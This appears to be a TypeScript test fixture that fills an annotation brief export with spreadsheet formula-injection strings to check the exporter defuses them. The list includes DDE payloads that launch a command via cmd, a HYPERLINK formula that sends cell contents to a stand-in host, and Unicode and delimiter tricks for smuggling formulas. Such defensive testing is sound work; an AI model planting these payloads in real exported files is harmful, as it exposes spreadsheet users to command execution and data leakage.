import type { Annotation } from '../src/domain/annotation/annotation.ts';
import { composeBrief } from '../src/domain/brief/compose-brief.ts';
import { FIRST_PLAN } from '../src/domain/brief/saved-brief.ts';
import type { Tag } from '../src/domain/tag/tag.ts';
import type { ExportInput } from '../src/main/export/format.ts';
import { briefWordsEn } from '../src/shared/texts/brief-words.en.ts';

/** Texts that spreadsheets may take for formulas, beginning with those that any of them would. */
export const ATTACKS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '=HYPERLINK("http://example.org/?x="&A1;"Chi tiết")',
  '=WEBSERVICE("http://example.org/")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\uFF1D1+1',
  '\u22121+1',
  '"=1+1"',
  '""=1+1',
  '\t=1+1',
  'đầu tư\n=1+1',
  'đầu tư\n\n \u00A0=1+1',
  'đầu tư;=1+1',
  'đầu tư; =1+1;x',
  'đầu tư\t=1+1',
  'đầu tư";"=1+1',
  'đầu tư\n";=1+1',
  '"\n=1+1\n"',
  "'=1+1",
];

/** A brief in which each attack is a passage, with others for its note, its translation, its tag and its article. */
export function attackedBrief(): ExportInput {
  const at = (index: number) => ATTACKS[index % ATTACKS.length] ?? '';
  const codebook = ATTACKS.map(
    (name, order): Tag => ({ id: `tag-${order}`, name, description: '', colour: 'amber', order }),
  );
  const annotations = ATTACKS.map(
    (exact, index): Annotation => ({
      id: `0192f0c0-0000-7000-8000-${String(index).padStart(12, '0')}`,
      articleId: `article-${String(index).padStart(3, '0')}`,
      textHash: at(index + 5),
      position: { start: 0, end: exact.length },
      quote: { exact, prefix: '', suffix: '' },
      tagIds: [`tag-${index}`, `tag-${(index + 1) % ATTACKS.length}`],
      note: at(index + 2),
      translation: { text: at(index + 3), checked: false },
      createdAt: '2026-11-22T08:00:00.000Z',
      updatedAt: '2026-11-22T08:00:00.000Z',
    }),
  );
  const unavailable = annotations.map(({ articleId }, index) => ({
    id: articleId,
    title: at(index + 4),
  }));
  const plan = {
    ...FIRST_PLAN,
    arrangement: { ...FIRST_PLAN.arrangement, groupBy: 'article' },
  } as const;
  const brief = composeBrief({
    ...{ title: at(0), created: '2026-11-22', plan },
    ...{ codebook, articles: [], unavailable, annotations },
  });
  return {
    ...{ brief, annotations, articles: [], codebook, words: briefWordsEn },
    ...{ dialect: 'commonmark', hasLinks: true, onProgress: () => {} },
  };
}
